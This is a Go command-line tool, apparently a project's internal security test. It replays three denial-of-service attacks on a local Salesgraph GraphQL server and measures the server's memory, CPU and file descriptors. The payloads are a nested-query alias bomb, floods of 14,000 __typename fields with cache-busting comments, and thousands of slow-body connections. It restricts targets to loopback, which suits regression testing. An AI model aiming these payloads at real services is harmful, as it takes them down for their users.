// Command attack replays, against a running Salesgraph on this machine, the
// three resource attacks that were found by hand (memory, CPU, connections)
// and reports what the server's process did: peak RSS, CPU seconds, and how
// /readyz and a normal query answered meanwhile. It only targets loopback
// addresses, and every loop is bounded in count and time.
//
//	go build -o /tmp/salesgraph . && /tmp/salesgraph &     # note the pid
//	go run ./tools/attack -pid PID -token "$VIEWER_TOKEN" memory
//	go run ./tools/attack -pid PID -token "$VIEWER_TOKEN" cpu
//	go run ./tools/attack -pid PID slowbody
//
// A token for the demo's read-only user: salesgraph token --user ceo@demo.salesgraph.example
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

type options struct {
	base       string
	token      string
	pid        int
	killOverMB int
	duration   time.Duration
	conns      int
	aliases    int
}

func main() {
	var o options
	flag.StringVar(&o.base, "url", "http://127.0.0.1:8080", "the server's base URL (loopback only)")
	flag.StringVar(&o.token, "token", "", "bearer token for the authenticated parts (memory: any role, e.g. VIEWER)")
	flag.IntVar(&o.pid, "pid", 0, "the server's process id, to sample its RSS and CPU from /proc")
	flag.IntVar(&o.killOverMB, "kill-over-mb", 3000, "SIGKILL the server if its RSS passes this many MB (protects the machine from an unfixed build)")
	flag.DurationVar(&o.duration, "duration", 40*time.Second, "how long the slowbody and cpu scenarios run")
	flag.IntVar(&o.conns, "conns", 4000, "slowbody: how many slow connections to open")
	flag.IntVar(&o.aliases, "aliases", 700, "memory: how many aliases of the nested products query")
	flag.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: attack [flags] memory|cpu|slowbody")
		flag.PrintDefaults()
	}
	flag.Parse()
	if flag.NArg() != 1 {
		flag.Usage()
		os.Exit(2)
	}
	u, err := url.Parse(o.base)
	if err != nil || !isLoopback(u.Hostname()) {
		fmt.Fprintln(os.Stderr, "attack: -url must be a loopback address (127.0.0.0/8, localhost or [::1])")
		os.Exit(2)
	}
	switch flag.Arg(0) {
	case "memory":
		err = memory(o)
	case "cpu":
		err = cpu(o)
	case "slowbody":
		err = slowbody(o, u.Host)
	default:
		err = fmt.Errorf("unknown scenario %q", flag.Arg(0))
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func isLoopback(host string) bool {
	if host == "localhost" {
		return true
	}
	ip := net.ParseIP(host)
	return ip != nil && ip.IsLoopback()
}

// proc samples the server process.
type proc struct{ pid int }

// rssMB is the resident set size in MiB (0 when unknown).
func (p proc) rssMB() float64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", p.pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseFloat(f[1], 64)
			return kb / 1024
		}
	}
	return 0
}

// cpuSeconds is user+system CPU time consumed so far.
func (p proc) cpuSeconds() float64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p.pid))
	if err != nil {
		return 0
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
	if len(f) < 13 {
		return 0
	}
	ut, _ := strconv.ParseFloat(f[11], 64)
	st, _ := strconv.ParseFloat(f[12], 64)
	return (ut + st) / 100 // USER_HZ is 100 on Linux
}

func (p proc) fds() int {
	entries, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", p.pid))
	if err != nil {
		return -1
	}
	return len(entries)
}

// sampled is what watch saw: peak RSS and the last CPU reading (the
// process may be gone by the end).
type sampled struct{ peakMB, cpu float64 }

// watch samples RSS and CPU every 100 ms until stop, and kills the server if
// it passes the cap.
func watch(o options, stop <-chan struct{}) <-chan sampled {
	out := make(chan sampled, 1)
	go func() {
		p := proc{o.pid}
		peak, lastCPU := 0.0, p.cpuSeconds()
		t := time.NewTicker(100 * time.Millisecond)
		defer t.Stop()
		for {
			if c := p.cpuSeconds(); c > 0 {
				lastCPU = c
			}
			if r := p.rssMB(); r > peak {
				peak = r
				if o.pid > 0 && o.killOverMB > 0 && r > float64(o.killOverMB) {
					fmt.Printf("  RSS passed %d MB: killing the server (pid %d)\n", o.killOverMB, o.pid)
					_ = syscall.Kill(o.pid, syscall.SIGKILL)
				}
			}
			select {
			case <-stop:
				out <- sampled{peak, lastCPU}
				return
			case <-t.C:
			}
		}
	}()
	return out
}

type result struct {
	status  int
	code    string
	message string
	took    time.Duration
	err     error
}

func post(ctx context.Context, c *http.Client, base, token, query string) result {
	body, _ := json.Marshal(map[string]string{"query": query})
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, base+"/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	start := time.Now()
	res, err := c.Do(req)
	if err != nil {
		return result{err: err, took: time.Since(start)}
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(io.LimitReader(res.Body, 64<<20))
	r := result{status: res.StatusCode, took: time.Since(start)}
	var out struct {
		Errors []struct {
			Message    string         `json:"message"`
			Extensions map[string]any `json:"extensions"`
		} `json:"errors"`
	}
	if json.Unmarshal(raw, &out) == nil && len(out.Errors) > 0 {
		r.code, _ = out.Errors[0].Extensions["code"].(string)
		r.message = out.Errors[0].Message
		if len(r.message) > 160 {
			r.message = r.message[:160] + "…"
		}
	}
	return r
}

func (r result) String() string {
	if r.err != nil {
		return fmt.Sprintf("error %v after %v", r.err, r.took.Round(time.Millisecond))
	}
	return fmt.Sprintf("HTTP %d code=%q in %v %s", r.status, r.code, r.took.Round(time.Microsecond), r.message)
}

// memory: item 3, 700 aliases of a nested list query as a read-only user.
func memory(o options) error {
	if o.token == "" {
		return errors.New("memory needs -token (any role)")
	}
	var q strings.Builder
	// A fragment keeps the document small (about 25 KB) and under the
	// parser's token limit, as in the original report.
	q.WriteString("query{")
	for i := range o.aliases {
		fmt.Fprintf(&q, "a%d:products(first:100){...P}", i)
	}
	q.WriteString("} fragment P on ProductConnection{nodes{stockLevels{nodes{warehouse{stockLevels{nodes{product{name}}}}}}}}")
	p := proc{o.pid}
	fmt.Printf("memory: %d-byte query, %d aliases; server RSS before %.0f MB\n", q.Len(), o.aliases, p.rssMB())
	cpu0 := p.cpuSeconds()
	stop := make(chan struct{})
	peak := watch(o, stop)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r := post(ctx, http.DefaultClient, o.base, o.token, q.String())
	time.Sleep(2 * time.Second) // work the server keeps doing after answering or after we gave up
	close(stop)
	seen := <-peak
	fmt.Printf("  answer: %v\n  server: peak RSS %.0f MB, CPU %.2f s\n", r, seen.peakMB, seen.cpu-cpu0)
	return nil
}

// cpu: item 4, 8 unauthenticated requests of 14,000 __typename fields in
// parallel, while one client measures a normal query's latency.
func cpu(o options) error {
	doc := "{" + strings.Repeat(" __typename", 14000) + " }"
	normal := "{ __schema { queryType { name } } }"
	if o.token != "" {
		normal = "{ me { name } products(first: 5) { nodes { sku name } } }"
	}
	p := proc{o.pid}
	c := &http.Client{Timeout: 2 * time.Minute}
	ctx := context.Background()

	fmt.Printf("cpu: %d-byte document, no token\n", len(doc))
	single := post(ctx, c, o.base, "", doc)
	fmt.Printf("  one request alone: %v\n", single)

	baseline := sample(ctx, c, o.base, o.token, normal, 30)
	fmt.Printf("  normal query alone: p50 %v, max %v (30 runs)\n", pct(baseline, 50), pct(baseline, 100))

	cpu0 := p.cpuSeconds()
	start := time.Now()
	deadline := start.Add(o.duration)
	var wg sync.WaitGroup
	var sent, refused atomic.Int64
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				// A unique comment defeats the server's parsed-query cache,
				// as an attacker would.
				r := post(ctx, c, o.base, "", doc+fmt.Sprintf(" #%d", sent.Add(1)))
				if r.status != 200 || r.code != "" {
					refused.Add(1)
				}
			}
		}()
	}
	time.Sleep(200 * time.Millisecond)
	under := sample(ctx, c, o.base, o.token, normal, 30)
	wg.Wait()
	elapsed := time.Since(start)
	fmt.Printf("  normal query with 8 attackers: p50 %v, max %v (30 runs)\n", pct(under, 50), pct(under, 100))
	fmt.Printf("  attackers: %d requests in %v (%d refused); server CPU %.1f s (%.0f%% of 2 cores)\n",
		sent.Load(), elapsed.Round(time.Second), refused.Load(), p.cpuSeconds()-cpu0,
		100*(p.cpuSeconds()-cpu0)/elapsed.Seconds()/2)
	return nil
}

func sample(ctx context.Context, c *http.Client, base, token, query string, n int) []time.Duration {
	var out []time.Duration
	for range n {
		r := post(ctx, c, base, token, query)
		out = append(out, r.took)
	}
	return out
}

func pct(ds []time.Duration, p int) time.Duration {
	if len(ds) == 0 {
		return 0
	}
	s := append([]time.Duration(nil), ds...)
	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
	i := (len(s) - 1) * p / 100
	return s[i].Round(time.Microsecond)
}

// slowbody: item 5, many connections each promising a 1 MB body and sending
// one byte every 5 s, while /readyz is probed every second.
func slowbody(o options, hostport string) error {
	p := proc{o.pid}
	fmt.Printf("slowbody: %d connections for %v; server fds before %d\n", o.conns, o.duration, p.fds())
	ctx, cancel := context.WithTimeout(context.Background(), o.duration)
	defer cancel()
	var opened, closedByServer, dialFailed atomic.Int64
	var wg sync.WaitGroup
	head := "POST /graphql HTTP/1.1\r\nHost: " + hostport + "\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
	for i := range o.conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			time.Sleep(time.Duration(i%100) * 10 * time.Millisecond) // spread the dials over a second
			d := net.Dialer{Timeout: 3 * time.Second}
			conn, err := d.DialContext(ctx, "tcp", hostport)
			if err != nil {
				dialFailed.Add(1)
				return
			}
			defer conn.Close()
			opened.Add(1)
			if _, err := io.WriteString(conn, head); err != nil {
				closedByServer.Add(1)
				return
			}
			t := time.NewTicker(5 * time.Second)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				_ = conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
				if _, err := conn.Write([]byte{' '}); err != nil {
					closedByServer.Add(1)
					return
				}
			}
		}()
	}
	probe := &http.Client{Timeout: 3 * time.Second}
	var lat []time.Duration
	failures := 0
	maxFDs := 0
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
probing:
	for {
		select {
		case <-ctx.Done():
			break probing
		case <-tick.C:
		}
		start := time.Now()
		res, err := probe.Get(o.base + "/readyz")
		if err != nil || res.StatusCode != 200 {
			failures++
		} else {
			lat = append(lat, time.Since(start))
		}
		if res != nil {
			res.Body.Close()
		}
		if n := p.fds(); n > maxFDs {
			maxFDs = n
		}
	}
	cancel()
	wg.Wait()
	fmt.Printf("  attack: %d connected, %d could not connect, %d cut off by the server\n", opened.Load(), dialFailed.Load(), closedByServer.Load())
	fmt.Printf("  /readyz: %d answered 200 (p50 %v, max %v), %d failed or timed out (3 s)\n", len(lat), pct(lat, 50), pct(lat, 100), failures)
	fmt.Printf("  server: peak open fds %d, RSS %.0f MB\n", maxFDs, p.rssMB())
	return nil
}
